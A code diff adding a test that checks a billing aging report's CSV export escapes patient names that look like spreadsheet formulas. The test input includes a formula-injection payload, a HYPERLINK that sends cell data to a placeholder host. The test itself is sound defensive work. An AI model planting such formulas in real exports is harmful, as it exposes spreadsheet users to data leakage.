@@ -89,6 +89,20 @@ def test_report_forms_json_and_csv_keep_every_cent(database):
     assert "Ames, Ann" in text and "425.25" in text
 
 
+def test_a_name_that_starts_like_a_formula_is_text_in_the_csv_and_amounts_stay_numbers(database):
+    """A spreadsheet opening the report must not run a name (from a clerk or an imported file) as
+    a formula; the amounts stay numbers."""
+    with clock.frozen(AS_OF):
+        sneaky = b.patient('=HYPERLINK("http://x.example/?"&A1,"Refund")', "Al")
+        b.encounter(sneaky, [10_00], dos=dt.date(2026, 6, 20))
+        b.encounter(b.patient("+1+1", "Bo"), [5_00], dos=dt.date(2026, 6, 20))
+    aging.recalc(AS_OF)
+    rows = list(csv.reader(io.StringIO(aging.report_csv(aging.report(AS_OF, by="patient")))))
+    names = [r[0] for r in rows[1:-1]]
+    assert """'=HYPERLINK("http://x.example/?"&A1,"Refund"), Al""" in names and "'+1+1, Bo" in names
+    assert rows[-1][-1] == "15.00" and all(not c.startswith("'") for r in rows for c in r[2:])
+
+
 def test_recalc_replaces_the_snapshot_for_the_same_date(database):
     _clinic()
     first = aging.recalc(AS_OF)
